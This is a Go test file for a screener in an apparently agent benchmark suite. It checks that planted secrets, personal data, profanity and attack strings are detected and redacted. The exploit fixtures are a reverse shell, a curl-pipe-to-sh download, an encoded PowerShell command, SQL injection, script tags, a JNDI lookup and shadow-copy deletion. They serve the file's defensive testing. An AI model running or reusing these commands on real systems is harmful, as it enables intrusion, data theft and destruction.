package screen_test

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/agentbound/agentbound/suite/screen"
)

// parts makes a text of its parts, so that no file holds it whole: the fault is in what
// the test builds, not in the repository.
func parts(p ...string) string { return strings.Join(p, "") }

// at makes an address of its parts.
func at(local, host string) string { return local + "@" + host }

// fault is something that must be found in a text.
type fault struct {
	name     string
	text     string // what stands in the suite
	key      string // under which it stands, if that matters
	kind     screen.Kind
	severity screen.Severity
	sensible string // the part that no output may hold; empty: none
}

var (
	awsKey    = parts("AK", "IA", "Q3EGUZ7MTNLQ2RWB")
	gitToken  = parts("gh", "p_", "x7Kd02mZqLw9TfVbN4cRyUj3HsPe8GaQ1iXo")
	slackHook = parts("https://hooks.sl", "ack.com/services/T01", "ABCD2E/B02FGHIJ3/k9LmNoPq8RsTuVwXyZ12aBcD")
	pemKey    = parts("-----BEGIN RSA PRI", "VATE KEY-----\n", strings.Repeat("MIIEpAIBAAKCAQEA7bq0Xy3\n", 8), "-----END RSA PRI", "VATE KEY-----")
	invite    = parts("https://chat.what", "sapp.com/Ab3dEf6hIjKlMnOpQrStUv")
	visaCard  = parts("4539 ", "1488 ", "0343 ", "6467")
	german    = parts("DE89 ", "3704 0044 ", "0532 0130 00")
	wallet    = parts("1A1zP1", "eP5QGefi2DMPTfTL5SLmv7DivfNa")
	security  = parts("536-", "22-", "8726")
)

// faults has one of every kind at least. The numbers are check-summed constructions or
// well-known test values; nothing here belongs to anybody.
var faults = []fault{
	{"cloud key", "use " + awsKey + " for it", "", screen.Secret, screen.Block, awsKey},
	{"token under a key", gitToken, "note", screen.Secret, screen.Block, gitToken},
	{"private key", pemKey, "", screen.Secret, screen.Block, "MIIEpAIBAAKCAQEA7bq0Xy3"},
	{"key told by its name", parts("zq81", "Kd02mZqLw9TfVbN4cRyUj3HsPe8"), "api_key", screen.Secret, screen.Block, "Kd02mZqLw9TfVbN4"},
	{"key that allows itself", awsKey + " gitleaks:allow", "", screen.Secret, screen.Block, awsKey},
	{"key in base64", base64.StdEncoding.EncodeToString([]byte("use " + awsKey + " for it")), "", screen.Secret, screen.Block, awsKey},
	{"key of a documentation", "use " + parts("AK", "IA", "IOSFODNN7EXAMPLE") + " for it", "", screen.Secret, screen.Block, parts("AK", "IA", "IOSFODNN7EXAMPLE")},
	{"key that looks made up", parts("sk", "-proj-", "abcdefghijklmnopqrstuvwxyz0123456789"), "", screen.Secret, screen.Block, "abcdefghijklmnopqrstuvwxyz"},
	{"secret of a documentation", parts("aws_secret_", "access_key = wJalrXUtnFEMI/K7MDENG", "/bPxRfiCYEXAMPLEKEY"), "", screen.Secret, screen.Block, "wJalrXUtnFEMI/K7MDENG"},
	{"short private key", parts("-----BEGIN PRI", "VATE KEY-----\nMIIEab\n-----END PRI", "VATE KEY-----"), "", screen.Secret, screen.Block, "MIIEab"},
	{"webhook", slackHook, "", screen.Secret, screen.Block, "k9LmNoPq8RsTuVwXyZ12aBcD"},
	{"password in prose", "The password is Harbour7!gate, ring first.", "", screen.Password, screen.Review, "Harbour7!gate"},
	{"password of a joke", "password=hunter2", "", screen.Password, screen.Review, "hunter2"},
	{"password under its key", "qT7-harbour-2x", "password", screen.Password, screen.Review, "qT7-harbour-2x"},
	{"password in an address", "ftp://clerk:Gate77x@files.example/in", "", screen.Password, screen.Review, "Gate77x"},
	{"e-mail", "write to " + at("mara.quill", "tessaly-upholstery.com") + " today", "", screen.Email, screen.Block, ""},
	{"e-mail spelled out", "mara.quill [at] tessaly-upholstery [dot] com", "", screen.Email, screen.Block, ""},
	{"e-mail in words", "mara at tessaly dot com", "", screen.Email, screen.Block, ""},
	{"e-mail in base64", base64.StdEncoding.EncodeToString([]byte("write to " + at("mara.quill", "tessaly.com"))), "", screen.Email, screen.Block, ""},
	{"e-mail of a private network", at("desk", "payables.corp"), "", screen.Email, screen.Review, ""},
	{"e-mail under a like name", at("desk", "payables.example.com.co"), "", screen.Email, screen.Block, ""},
	{"phone abroad", "ring +49 151 2345 6789", "", screen.Phone, screen.Block, ""},
	{"phone in Arabic digits", "ring +٤٩ ١٥١ ٢٣٤٥٦٧٨٩", "", screen.Phone, screen.Block, ""},
	{"phone in Devanagari digits", "(२१२) ७३६-५०००", "", screen.Phone, screen.Block, ""},
	{"phone in mathematical digits", "ring +𝟜𝟡 𝟙𝟝𝟙 𝟚𝟛𝟜𝟝𝟞𝟟𝟠𝟡", "", screen.Phone, screen.Block, ""},
	{"phone in Adlam digits", "ring +\U0001E954\U0001E959 151 23456789", "", screen.Phone, screen.Block, ""},
	{"cloud key with a gap", "use " + parts("AK", "IA ", "IOSFODNN7EXAMPLQ") + " for it", "", screen.Secret, screen.Block, "IOSFODNN7EXAMPLQ"},
	{"e-mail letter by letter", "m a r a @ t e s s a l y . c o m", "", screen.Email, screen.Block, ""},
	{"phone in America", "(212) 736-5000", "", screen.Phone, screen.Block, ""},
	{"555 beyond the reserved hundred", "212-555-2368", "", screen.Phone, screen.Block, ""},
	{"phone with spaces", "415 867 5309", "", screen.Phone, screen.Block, ""},
	{"phone with trunk prefix", "0151 709 4321", "", screen.Phone, screen.Block, ""},
	{"phone in France", "01 42 68 53 00", "", screen.Phone, screen.Block, ""},
	{"phone told by a word", "call 736 5000 before noon", "", screen.Phone, screen.Block, ""},
	{"phone as a number", "2127365000", "phone", screen.Phone, screen.Block, ""},
	{"IBAN", "to " + german, "", screen.IBAN, screen.Block, "3704 0044 0532"},
	{"IBAN, mistyped", parts("DE12 ", "3704 0044 ", "0532 0130 00"), "", screen.IBAN, screen.Review, "3704 0044 0532"},
	{"account number", "pay account number 40817810099", "", screen.BankAccount, screen.Review, "40817810099"},
	{"account under its key", "40817810099", "bank_account", screen.BankAccount, screen.Review, "40817810099"},
	{"card", "charge " + visaCard, "", screen.Card, screen.Block, "4539 1488 0343"},
	{"test card", parts("4242", "4242", "4242", "4242"), "", screen.Card, screen.Block, "424242424242"},
	{"card, mistyped", "card " + parts("4539 ", "1488 ", "0343 ", "6461"), "", screen.Card, screen.Review, "4539 1488 0343"},
	{"social security number", security, "", screen.NationalID, screen.Block, security},
	{"national insurance number", parts("AB ", "12 34 56 C"), "", screen.NationalID, screen.Block, "12 34 56"},
	{"DNI", "DNI " + parts("1234", "5678Z"), "", screen.NationalID, screen.Block, "12345678"},
	{"CPF", parts("529.982", ".247-25"), "", screen.NationalID, screen.Block, "529.982"},
	{"resident number", parts("11010519", "491231002X"), "", screen.NationalID, screen.Block, "1101051949"},
	{"passport", "passport no. " + parts("X12", "34567"), "", screen.Passport, screen.Review, "X1234567"},
	{"passport with letters", "passport: " + parts("C01X", "00T47"), "", screen.Passport, screen.Review, "C01X00T47"},
	{"street", "Deliver to 14 Harrow Hill Road by noon.", "", screen.Address, screen.Review, ""},
	{"street and postcode", "14 Harrow Hill Road, Leeds LS1 4AP", "", screen.Address, screen.Block, ""},
	{"street in Germany", "Lindenstraße 12, Hinterhaus", "", screen.Address, screen.Review, ""},
	{"address", "from 8.8.4.4 at night", "", screen.IP, screen.Block, ""},
	{"private network", "10.20.30.40", "", screen.IP, screen.Review, ""},
	{"IPv6", "2a00:1450:4001:81b::200e", "", screen.IP, screen.Block, ""},
	{"MAC", "3c:5a:b4:12:9f:01", "", screen.MAC, screen.Block, ""},
	{"URL", "see https://tessaly-upholstery.com/returns.", "", screen.URL, screen.Block, ""},
	{"URL that hides its host", "https://files.example@tessaly.com/x", "", screen.URL, screen.Block, ""},
	{"URL of a private network", "http://intranet/payroll", "", screen.URL, screen.Review, ""},
	{"domain", "their shop at tessaly-upholstery.com sells it", "", screen.Domain, screen.Block, ""},
	{"domain of a country", "www.tessaly.nl and tessaly.co.uk", "", screen.Domain, screen.Block, ""},
	{"invitation", "join " + invite, "", screen.PrivateLink, screen.Block, "Ab3dEf6hIjKlMnOpQrStUv"},
	{"shared document", parts("docs.goo", "gle.com/document/d/1aBcDeFgHiJkLmNoP/edit"), "", screen.PrivateLink, screen.Block, "1aBcDeFgHiJkLmNoP"},
	{"magnet", parts("magnet:?xt=urn:btih:", "c12fe1c06bba254a9dc9f519b335aa7c1367a88a"), "", screen.PrivateLink, screen.Block, "c12fe1c06bba254a9dc9f519b335aa7c1367a88a"},
	{"coordinates", "the van stands at 51.50735, -0.12776", "", screen.Coordinates, screen.Review, ""},
	{"coordinate under its key", "51.50735", "lat", screen.Coordinates, screen.Review, ""},
	{"degrees", `51°30'26"N`, "", screen.Coordinates, screen.Review, ""},
	{"wallet", wallet, "", screen.Wallet, screen.Block, "eP5QGefi2DMPTfTL5S"},
	{"wallet in hex", "0x" + strings.Repeat("a1B2c3D4e5", 4), "", screen.Wallet, screen.Block, strings.Repeat("a1B2c3D4e5", 3)},
	{"organisation", "an invoice of Microsoft for licences", "", screen.Organisation, screen.Block, ""},
	{"organisation in capitals", "MICROSOFT sent it", "", screen.Organisation, screen.Block, ""},
	{"organisation that is a word", "The parcel from Amazon is late.", "", screen.Organisation, screen.Review, ""},
	{"person", "a letter signed Angela Merkel", "", screen.Person, screen.Block, ""},
	{"person with initials", "J. K. Rowling called", "", screen.Person, screen.Block, ""},
	{"profanity", parts("what the f", "uck is this"), "", screen.Profanity, screen.Review, parts("f", "uck")},
	{"sexual word", parts("child p", "ornography"), "", screen.Sexual, screen.Block, parts("p", "ornography")},
	{"encoded command", parts("power", "shell -e", "nc SQBFAFgAIAAoAE4AZQB3AC0A"), "", screen.Exploit, screen.Block, ""},
	{"reverse shell", parts("bash -", "i >& /dev/", "tcp/198.51.100.7/4444 0>&1"), "", screen.Exploit, screen.Block, ""},
	{"download and run", parts("curl https://files.example/x.sh | ", "sh"), "", screen.Exploit, screen.Block, ""},
	{"shell code", strings.Repeat(`\x9`, 1) + `0` + strings.Repeat(`\x90`, 12), "", screen.Exploit, screen.Block, ""},
	{"SQL", parts("admin' O", "R '1'='1"), "", screen.Exploit, screen.Block, ""},
	{"SQL union", parts("7 UNI", "ON SELECT name, pass FROM users"), "", screen.Exploit, screen.Block, ""},
	{"script", parts("<scr", "ipt>send(doc)</script>"), "", screen.Exploit, screen.Block, ""},
	{"macro", parts("Sub Auto", "Open()"), "", screen.Exploit, screen.Block, ""},
	{"look-up", parts("${jn", "di:ldap://x.example/a}"), "", screen.Exploit, screen.Block, ""},
	{"shadow copies", parts("vssad", "min delete shad", "ows /all"), "", screen.Exploit, screen.Block, ""},
	{"tool", "they ran mimi" + "katz on it", "", screen.Exploit, screen.Review, ""},
	{"bytes in base64", base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00\x9f\x81q\xfe7Z\x10", 12))), "", screen.Blob, screen.Review, ""},
	{"bytes in hex", strings.Repeat("9f81fe375a10", 6), "", screen.Blob, screen.Review, ""},
	{"recipe", "Dissolve 20 g of sodium chloride in 100 ml of ethanol, stir at 40 °C and filter off the rest.", "", screen.Recipe, screen.Review, ""},
	{"zero width", "a quiet\u200bly hidden word", "", screen.Hidden, screen.Review, ""},
	{"mixed alphabets", "the p\u0430yment", "", screen.Hidden, screen.Review, ""},
	{"direction override", "invoice\u202efdp.exe", "", screen.Hidden, screen.Review, ""},
	// hidden from the eye of a pattern
	{"e-mail in wide letters", "ｍａｒａ＠ｔｅｓｓａｌｙ．ｃｏｍ", "", screen.Email, screen.Block, ""},
	{"e-mail with a Cyrillic letter", at("mara", "t\u0435ssaly.com"), "", screen.Email, screen.Block, ""},
	{"card with zero-width spaces", strings.ReplaceAll(parts("4539", "1488", "0343", "6467"), "4", "4\u200b"), "", screen.Card, screen.Block, "453914880343"},
	{"defanged address", "hxxps://tessaly[.]com/x", "", screen.URL, screen.Block, ""},
	{"script in escapes", parts("%3Cscr", "ipt%3Ealert(1)%3C/script%3E"), "", screen.Exploit, screen.Block, ""},
	{"script in entities", parts("&lt;scr", "ipt&gt;x&lt;/script&gt;"), "", screen.Exploit, screen.Block, ""},
	{"e-mail in escapes", "mara.quill%40tessaly.com", "", screen.Email, screen.Block, ""},
	{"organisation in mixed case", "mIcRoSoFt", "", screen.Organisation, screen.Block, ""},
	{"organisation with look-alikes", "Micr\u043es\u043eft", "", screen.Organisation, screen.Block, ""},
	{"word with figures", parts("f", "u", "ck1ng"), "", screen.Profanity, screen.Review, parts("f", "uck1ng")},
	{"word set apart", parts("f.", "u.", "c.", "k"), "", screen.Profanity, screen.Review, parts("f.", "u.c.k")},
	{"word stretched", parts("fuu", "uuuc", "kkk"), "", screen.Profanity, screen.Review, parts("fuu", "uuuckkk")},
	{"word with accents", parts("fü", "ck"), "", screen.Profanity, screen.Review, parts("fü", "ck")},
}

// TestFaults: each is found in a plain text, and only it decides.
func TestFaults(t *testing.T) {
	kinds := map[screen.Kind]bool{}
	for _, f := range faults {
		t.Run(f.name, func(t *testing.T) {
			found, err := screen.Texts(t.Context(), []screen.Text{{ID: "one", Where: "state note", Name: f.key, Text: f.text}})
			if err != nil {
				t.Fatal(err)
			}
			if !has(found, f, "state note") {
				t.Errorf("%q: no %s finding of kind %s, but %v", f.text, f.severity, f.kind, found)
			}
			for _, g := range found {
				if f.sensible != "" && strings.Contains(g.Found, f.sensible) {
					t.Errorf("the finding shows %q: %+v", f.sensible, g)
				}
				if g.Remedy == "" {
					t.Errorf("no remedy: %+v", g)
				}
			}
		})
		kinds[f.kind] = true
	}
	for _, k := range screen.Kinds() {
		if !kinds[k] && k != screen.Unreadable && k != screen.Slur { // files_test.go and words_test.go have those
			t.Errorf("no fault of kind %s is planted", k)
		}
	}
}

func has(found []screen.Finding, f fault, where string) bool {
	for _, g := range found {
		if g.Kind == f.kind && g.Severity == f.severity && strings.HasPrefix(g.Where, where) {
			return true
		}
	}
	return false
}

// harmless are near misses: what a suite is full of.
var harmless = []screen.Text{
	// numbers
	{Text: "A-113, INV-5093, CR-81, AC-4410, X-118, V-220, L-2197 and 4471"},
	{Text: "order 20310519, 1000000 units at 18640.50, 12 345 678 in all, 3.14159 of them"},
	{Text: "123456789012"}, {Text: "4539148803436467123456789"}, {Name: "amount", Text: "4539148"},
	{Text: "2031-05-19T08:30:00Z, 19.05.2031, 05/19/2031, 08:30, 10:30:45, 12-24 May"},
	{Text: "ISBN 978-3-16-148410-0, ISBN-13: 9783161484100, 0-306-40615-2"},
	{Text: "v2.0, version 1.2.3.4, release 10.20.30.40, section 4.2.1.3, 1.2.3, 10.4.2.1.7"},
	{Text: "checksum " + strings.Repeat("9f81fe37", 8) + ", commit " + strings.Repeat("9f81", 10)},
	{Text: "550e8400-e29b-41d4-a716-446655440000"},
	{Text: "rooms 101 102 103 104 105 and 0201, 0202, 0203"}, {Text: "from 02 03 to 05 06 each day, 01 02 03 04 05, 01 02 03 04 05 06, 02110-1301"},
	{Text: "call 40 customers, ring twice, dial 4471, text 12 people"},
	{Text: "account ending 4471, card ending 4471, account AC-4410, accounts: 12"},
	{Text: "Social Security office, passport office, driving licence desk"},
	{Text: "ratio 1:2:3, lot 4:05, 16:9, a::b"},
	{Text: "200 300 4000 and 300 400 5000"}, {Text: "50% of 20 & 30; 10%ab; R&amp;D; state[a.b][.2]"},
	{Text: "+20 %, +1000000, -40 to +85 °C, 2 x 150 g, 100-200-300"},
	{Text: "52.5 m by 13.4 m, 0.125 and 0.250, 10.5, 20.5"},
	{Text: "000-12-3456, 666-12-3456, 987-65-4321, QQ 12 34 56 C"},
	// names of files, code, words
	{Text: "report.pdf, notes.txt, index.md, run.sh, archive.zip, main.py, records.star, logo.ai, film.mov"},
	{Text: "state.get, before.today, after.name, accounts.A-9.remark, e.g. this, i.e. that, a.m., p.m., U.S. and Ph.D."},
	{Text: "It is done.It was late. See No.5.In the end, approx.10 per cent."},
	{Text: "The clerk waits at the desk. Mara is at Corvane. He looked at it."},
	{Text: "an apple, a target, the gap, orange, shells, a visa for the trip, signal lost, slack time, the zoom lens"},
	{Text: "Target the open items first. Visa papers are filed. Signal the crew. Apple crates go left."},
	{Name: "label", Text: "Signal"}, {Text: "Orange Street Team meets"},
	{Text: "mit, who, it, aid, and us; the pen is mightier; a class of assassins in Scunthorpe; Essex; cockpit; shuttlecock; analysis"},
	{Text: "a niggardly sum, snigger, therapist, document, circumference, Homo sapiens"},
	{Text: "ransomware, payload, phishing mail, hateful posts, malware sample S-4, the ransom note, a lure"},
	{Text: "The script says: run the list, drop the table in room 4, union members select a speaker."},
	{Text: "password reset for PS-2; the password is changed; token TK-204; secret ballot; key: K-7; pin it to the top"},
	{Text: "two buckets of sulphur-coloured paint and 5 l of water; wash the van; acetone shelf, 3 bottles"},
	{Text: "acetone, toluene, nitric acid: shelf 3; handle with gloves"},
	{Text: "fans make heatstroke worse 🔥👩‍🔬, naïve café, Łódź, 12 µg, 10 kΩ, Привет, Ελλάδα"},
	{Text: "14 boxes for the Road show; 3 Good Reasons; Quayside pipes; Harbour Lane depot; 12 Street lamps"},
	{Text: "the-salt-harbour-cinema-master-in-the-clear-one-file-for-the-distributor-and-no-one-else-at-all"},
	{Name: "key", Text: "salt-harbour-master"}, {Name: "token", Text: "SL-41"}, {Name: "secret", Text: "none"}, {Name: "password", Text: "to be changed"},
	{Name: "phone", Text: "in the file"}, {Name: "account", Text: "AC-2973"}, {Name: "lat", Text: "late"},
	{Code: true, Text: `def f(state, a): x = state.get("k"); return x.id if a.to in x.com else after["x"].y.name.net`},
	{Code: true, Text: `any([p["names"] and p["audience"] != "moderators" for p in after["board"][len(before["board"]):]]) # v1.2.3.4`},
	{Code: true, Text: `n = 4539148803436467 + 2127365000 - 10.20 # counts`},
}

func TestHarmless(t *testing.T) {
	for _, text := range harmless {
		text.Where = "state note"
		found, err := screen.Texts(t.Context(), []screen.Text{text})
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range found {
			t.Errorf("%q is no %s (%s), found %s", text.Text, f.Kind, f.Severity, f.Found)
		}
	}
}

// reserved are kept for examples, by whom says the table.
var reserved = map[string][]string{
	"RFC 2606, RFC 6761": {"mara@tessaly.example", "https://files.example/a?b=c#d", "x.test", "no.invalid", "http://app.localhost:8080/", "www.example.com",
		"a.b@example.org", "https://example.net", "HTTPS://EXAMPLE.COM", "ingest.corvane.example, and press.corvane.example.", "mara [at] tessaly [dot] example"},
	"RFC 5737":   {"192.0.2.0/24", "198.51.100.7", "203.0.113.255", "http://192.0.2.1:8080/x"},
	"RFC 3849":   {"2001:db8::1", "2001:0db8:85a3::8a2e:370:7334", "http://[2001:db8::1]/"},
	"RFC 9637":   {"3fff::1", "3fff:fff:ffff::9"},
	"RFC 7042":   {"00-00-5E-00-53-01", "00:00:5e:00:53:ff", "0000.5e00.5301"},
	"NANPA":      {"555-0100", "+1-555-0142", "(212) 555-0199", "1-800-555-0123", "+1 212 555 0100", "call 555 0142"},
	"Ofcom":      {"020 7946 0123", "+44 20 7946 0999", "07700 900123", "+44 7700 900999", "0113 496 0000", "01632 960123", "0808 157 0999", "028 9649 6000", "+44 (0)29 2018 0123"},
	"BNetzA":     {"030 23125 000", "+49 69 90009 123", "089 99998 999"},
	"Arcep":      {"01 99 00 12 34", "+33 6 39 98 12 34"},
	"ACMA":       {"(02) 5550 1234", "+61 491 570 156", "1800 975 707"},
	"ComReg":     {"+353 20 911 2345"},
	"PTS":        {"08-465 004 12", "+46 70 174 06 10"},
	"HMRC, SSA":  {"QQ 12 34 56 C", "987-65-4321"},
	"the method": {"account ending 4471", "AC-4410", "card ending 4471"},
}

// keyOf is the key under which numbers of a regulator stand.
var keyOf = map[string]string{"NANPA": "phone", "Ofcom": "mobile", "BNetzA": "telephone", "Arcep": "fax", "ACMA": "phone", "ComReg": "phone", "PTS": "phone", "the method": "account"}

func TestReserved(t *testing.T) {
	for who, texts := range reserved {
		for _, text := range texts {
			for _, name := range []string{"", "note", keyOf[who]} {
				found, err := screen.Texts(t.Context(), []screen.Text{{Where: "x", Name: name, Text: text}})
				if err != nil {
					t.Fatal(err)
				}
				if len(found) > 0 {
					t.Errorf("%s keeps %q for examples, but under %q: %+v", who, text, name, found)
				}
			}
		}
	}
}
